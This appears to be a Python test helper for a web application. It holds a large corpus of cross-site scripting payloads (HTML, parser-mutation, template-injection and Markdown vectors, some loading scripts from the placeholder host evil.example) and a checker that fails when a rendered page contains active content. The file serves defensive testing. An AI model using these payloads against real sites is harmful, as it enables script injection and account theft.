"""Attacks on pages that show text of others, and a check that a page is not affected by them."""

from __future__ import annotations

import json
import re
from html.parser import HTMLParser

import lxml.html

_HTML = (
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<ScRiPt>alert(1)</sCrIpT>",
    "<script\n>alert(1)</script\n>",
    "<script/x>alert(1)</script>",
    "<script>alert(1)//",
    "<<script>alert(1);//<</script>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<script src=data:text/javascript,alert(1)></script>",
    "</script><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    "</style><script>alert(1)</script>",
    "<!--<script>--><script>alert(1)</script>",
    "--><script>alert(1)</script><!--",
    "--!><img src=x onerror=alert(1)>",
    "]]><script>alert(1)</script><![CDATA[",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<img src=x onerror=alert(1)>",
    "<img src=x onerror\n=\nalert(1)>",
    "<img src=x\x0conerror=alert(1)>",
    "<img/src=x/onerror=alert(1)>",
    '<img """><script>alert(1)</script>">',
    "<img src=`x` onerror=alert(1)>",
    "<IMG SRC=javascript:alert(1)>",
    '<img src=x:x onerror="alert(1)" srcset="javascript:alert(1) 2x">',
    "<img srcset='x' sizes='x' onerror=alert(1)>",
    "<img dynsrc=javascript:alert(1)><img lowsrc=javascript:alert(1)>",
    "<image src=x onerror=alert(1)>",
    "<body onload=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg/onload=alert(1)//",
    "<svg><script>alert(1)</script></svg>",
    "<svg><script xlink:href=data:,alert(1) />",
    "<svg><a xlink:href=javascript:alert(1)><text x=9 y=9>x</text></a></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><a><animate attributeName=href values=javascript:alert(1) /><text>x</text></a></svg>",
    "<svg><set attributeName=href to=javascript:alert(1)>",
    "<svg><use href='data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg/>#x'/></svg>",
    "<svg><foreignObject><iframe src=javascript:alert(1)></iframe></foreignObject></svg>",
    "<svg><style>{}*{background:url(javascript:alert(1))}</style></svg>",
    "<math href=javascript:alert(1)>x</math>",
    "<math><mi xlink:href='data:x,<script>alert(1)</script>'>x</mi></math>",
    "<math><maction actiontype=statusline xlink:href=javascript:alert(1)>x</maction></math>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<iframe/onload=alert(1)>",
    "<frameset><frame src=javascript:alert(1)></frameset>",
    "<object data=javascript:alert(1)></object>",
    "<object data='data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=='></object>",
    "<embed src=javascript:alert(1)>",
    "<applet code=javascript:alert(1)></applet>",
    "<base href=javascript:alert(1)//>",
    "<base href=//evil.example/>",
    "<link rel=stylesheet href=javascript:alert(1)>",
    "<link rel=import href=//evil.example/>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "<meta http-equiv=refresh content='0;url=data:text/html,<script>alert(1)</script>'>",
    "<style>@import '//evil.example/x.css';</style>",
    "<style>body{background:url(javascript:alert(1))}</style>",
    "<p style='background:url(javascript:alert(1))'>x</p>",
    '<p style="width:expression(alert(1))">x</p>',
    "<div style='position:fixed;inset:0'><a href=//evil.example>x</a></div>",
    "<form action=javascript:alert(1)><input type=submit></form>",
    "<form><button formaction=javascript:alert(1)>x</button></form>",
    "<form id=x></form><button form=x formaction=javascript:alert(1)>x</button>",
    "<input autofocus onfocus=alert(1)>",
    "<select autofocus onfocus=alert(1)></select>",
    "<textarea autofocus onfocus=alert(1)></textarea>",
    "<keygen autofocus onfocus=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<video poster=javascript:alert(1)></video>",
    "<audio src=x onerror=alert(1)></audio>",
    "<details open ontoggle=alert(1)>x</details>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<div onpointerover=alert(1)>x</div>",
    "<p onclick=alert(1) tabindex=1 accesskey=x>x</p>",
    "<x onclick=alert(1) contenteditable>x</x>",
    "<table background=javascript:alert(1)><tr><td background=javascript:alert(1)>x</table>",
    "<isindex type=image src=1 onerror=alert(1)>",
    "<template><script>alert(1)</script></template>",
    "<template shadowrootmode=open><script>alert(1)</script></template>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
    '<xmp><p title="</xmp><img src=x onerror=alert(1)>"></xmp>',
    "<plaintext><script>alert(1)</script>",
    "<bgsound src=javascript:alert(1)>",
    "<portal src=javascript:alert(1)></portal>",
    "<a href=javascript:alert(1)>x</a>",
    "<a href=JaVaScRiPt:alert(1)>x</a>",
    "<a href=' javascript:alert(1)'>x</a>",
    "<a href='\x01javascript:alert(1)'>x</a>",
    "<a href='java\tscript:alert(1)'>x</a>",
    "<a href='java\nscript:alert(1)'>x</a>",
    "<a href='java&#10;script&#58;alert(1)'>x</a>",
    "<a href='jav&#x09;ascript:alert(1)'>x</a>",
    "<a href='&#0000106&#0000097&#0000118&#0000097script:alert(1)'>x</a>",
    "<a href='javascript&colon;alert(1)'>x</a>",
    "<a href='javascript&#x3a;alert(1)'>x</a>",
    "<a href='vbscript:msgbox(1)'>x</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
    "<a href='data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=='>x</a>",
    "<a href='blob:https://evil.example/x'>x</a><a href='file:///etc/passwd'>x</a>",
    "<a href='feed:javascript:alert(1)'>x</a><a href='view-source:javascript:alert(1)'>x</a>",
    "<a href=x target=_blank ping=//evil.example onclick=alert(1)>x</a>",
    "<a xlink:href=javascript:alert(1)>x</a>",
    "<area href=javascript:alert(1)><map name=x><area href=javascript:alert(1)></map>",
)
# Harmless before parsing or escaping, harmful after doing so twice, or in another context.
_MUTATIONS = (
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 "
    "onerror=alert(1)&gt;'>",
    '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<svg><desc><noscript></svg><img src=x onerror=alert(1)></noscript></desc>",
    '<noembed><img title="</noembed><img src onerror=alert(1)>"></noembed>',
    "<select><style></select><img src=x onerror=alert(1)></style>",
    "<math><annotation-xml encoding='text/html'><style><img src=x onerror=alert(1)></style>",
    "<a href='\u2028javascript:alert(1)'>x</a>",
    "\u3008script\u3009alert(1)\u3008/script\u3009",
    "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e",
    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&amp;lt;script&amp;gt;alert(1)&amp;lt;/script&amp;gt;",
    "&#60;img src=x onerror=alert(1)&#62;",
    "%3Cscript%3Ealert(1)%3C/script%3E",
    "\\x3cscript\\x3ealert(1)\\x3c/script\\x3e",
    "\\u003cscript\\u003ealert(1)",
    '" onmouseover=alert(1) x="',
    "' onmouseover=alert(1) x='",
    "` onmouseover=alert(1) x=`",
    'x" autofocus onfocus="alert(1)',
    "'\"><img src=x onerror=alert(1)>",
    '"></a><svg/onload=alert(1)>',
    "';alert(1)//",
    '\\";alert(1)//',
    "${alert(1)}",
    "{{constructor.constructor('alert(1)')()}}",
    "{% raw %}<script>alert(1)</script>{% endraw %}",
    "{{ 7 * 7 }}<%= 7 * 7 %>#{7 * 7}",
    "javascript:alert(1)",
    "JAVASCRIPT:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "//evil.example/x",
    'https://evil.example/"onmouseover=alert(1) x=',
    "javascript:/*--></title></style></textarea></script></xmp><svg/onload='+/\"/+/onmouseover=1/"
    "+/[*/[]/+alert(1)//'>",
    "jaVasCript:/*-/*`/*\\`/*'/*\"/**/(/* */oNcliCk=alert() )//%0D%0A%0d%0a//</stYle/</titLe/"
    "</teXtarEa/</scRipt/--!>\\x3csVg/<sVg/oNloAd=alert()//>\\x3e",
    '"\'><marquee><img src=x onerror=confirm(1)></marquee>"></plaintext\\></|\\><plaintext/'
    "onmouseover=prompt(1)><script>prompt(1)</script>@gmail.com<isindex formaction=javascript:"
    'alert(1) type=submit>\'-->"></script><script>alert(1)</script>"><img/id="confirm&lpar;1)"'
    '/alt="/"src="/"onerror=eval(id)>\'"><img src="http://evil.example/x.png">',
)
_MARKDOWN = (
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x]( javascript:alert(1))",
    "[x](<javascript:alert(1)>)",
    "[x](<java\tscript:alert(1)>)",
    "[x](java&#10;script:alert(1))",
    "[x](javascript&colon;alert(1))",
    "[x](&#x6a;avascript:alert(1))",
    "[x](%6Aavascript:alert(1))",
    "[x](\\javascript:alert(1))",
    "[x](vbscript:msgbox(1))",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[x](data:image/svg+xml;base64,PHN2Zy8+)",
    '[x](https://e.example/"onmouseover=alert(1))',
    "[x](https://e.example 'title\" onmouseover=alert(1) x=\"')",
    "[x]: javascript:alert(1)\n\n[x]",
    '[x]: <javascript:alert(1)> "x"\n\n[y][x] ![y][x]',
    "![x](javascript:alert(1))",
    "![x](data:image/svg+xml,<svg/onload=alert(1)>)",
    '![x" onerror="alert(1)](x)',
    '![x](x"onerror=alert(1)//)',
    '![x](x "title\\" onerror=alert(1) ")',
    '![x](/portfolio/media/0123456789abcdef_9x9/9.webp?"onerror=alert(1))',
    '![<img src=x onerror=alert(1)>](x "<img src=x onerror=alert(1)>")',
    "<javascript:alert(1)>",
    "<javascript&#58;alert(1)>",
    "<data:text/html,alert(1)>",
    'https://e.example/"onmouseover="alert(1)',
    "https://e.example/<svg/onload=alert(1)>",
    "x[^1]\n\n[^1]: <script>alert(1)</script> [x](javascript:alert(1))",
    'x[^"><script>alert(1)</script>]\n\n[^"><script>alert(1)</script>]: x',
    "x^[<img src=x onerror=alert(1)>]",
    "# <img src=x onerror=alert(1)>",
    '# " onmouseover="alert(1)',
    '```"><script>alert(1)</script>\nx\n```',
    "```html\n</code></pre><script>alert(1)</script>\n```",
    "`</code><script>alert(1)</script>`",
    "    </code></pre><script>alert(1)</script>",
    "|a|\n|-|\n|<img src=x onerror=alert(1)>|",
    "~~<img src=x onerror=alert(1)>~~",
    '**<a href="javascript:alert(1)">x</a>**',
    '<a href="https://e.example">[x](javascript:alert(1))</a>',
    "<div>\n\n[x](javascript:alert(1))\n\n<script>alert(1)</script></div>",
    "[<img src=x onerror=alert(1)>](https://e.example)",
    "> <iframe src=javascript:alert(1)>",
)
XSS_CORPUS: tuple[str, ...] = _HTML + _MUTATIONS + _MARKDOWN
# These break out of an attribute, an element, a script or a URL.
SHARPEST = (
    "<script>alert(1)</script>",
    '"><img src=x onerror=alert(1)>',
    "' onmouseover=alert(1) x='",
    "</title></textarea></script><svg/onload=alert(1)>",
    "javascript:alert(1)",
    "{{ 7 * 7 }}${7 * 7}",
)

_FORBIDDEN = (
    "applet base embed frame frameset iframe isindex keygen marquee math object plaintext portal "
    "style xmp noembed bgsound animate animatemotion animatetransform set foreignobject"
)
_URL_ATTRIBUTES = (
    "action background cite classid code codebase data dynsrc formaction href icon longdesc "
    "lowsrc manifest ping poster profile src usemap xlink:href"
)
_HARMLESS_SCHEMES = ("http:", "https:", "mailto:")
_SCHEME = re.compile(r"[a-z][a-z0-9+.-]*:", re.IGNORECASE)


def assert_harmless(html: str) -> None:
    """Fail if a page or fragment contains active content other than scripts from /static.

    Two parsers read it, since they differ where attackers look for differences.
    """
    parser = _Checker()
    parser.feed(html)
    parser.close()
    if html.strip():
        for element in lxml.html.fragment_fromstring(f"<div>{html}</div>").iter():
            if isinstance(element.tag, str):
                parser.check(element.tag, [(str(k), str(v)) for k, v in element.attrib.items()])


class _Checker(HTMLParser):
    def __init__(self) -> None:
        super().__init__()
        self._script: dict[str, str] | None = None

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        attributes = [(name, value or "") for name, value in attrs]
        self.check(tag, attributes)
        self._script = dict(attributes) if tag == "script" else None

    def handle_endtag(self, tag: str) -> None:
        self._script = None

    def handle_data(self, data: str) -> None:
        if self._script is None:
            return
        if self._script.get("type") == "application/ld+json":
            json.loads(data)
            assert "<" not in data, f"JSON-LD is not escaped: {data}"
        else:
            assert not data.strip(), f"inline script: {data}"

    def check(self, tag: str, attributes: list[tuple[str, str]]) -> None:
        """Fail if an element is not one of ours."""
        tag = tag.lower()
        values = {name.lower(): value for name, value in attributes}
        shown = f"<{tag} {values}>"
        assert tag not in _FORBIDDEN.split(), shown
        if tag == "script" and values.get("type") != "application/ld+json":
            assert re.match(r"/static/[^?#\\]+\.js$", values.get("src", "")), shown
        if tag == "link" and "stylesheet" in values.get("rel", ""):
            assert values["href"].startswith("/"), shown
            assert not values["href"].startswith("//"), shown
        assert "refresh" not in values.get("http-equiv", "").lower(), shown
        for name, value in values.items():
            assert not name.startswith("on"), shown
            assert name not in ("style", "srcdoc"), shown
            if name in _URL_ATTRIBUTES.split():
                assert is_harmless_url(value), shown
            if name == "srcset":
                assert all(is_harmless_url(part.split()[0]) for part in value.split(",")), shown


def is_harmless_url(url: str) -> bool:
    """Return whether a browser would open a URL as a page, an image or a mail."""
    text = re.sub(r"[\x00-\x20]", "", url)
    scheme = _SCHEME.match(text)
    return scheme is None or scheme[0].lower() in _HARMLESS_SCHEMES
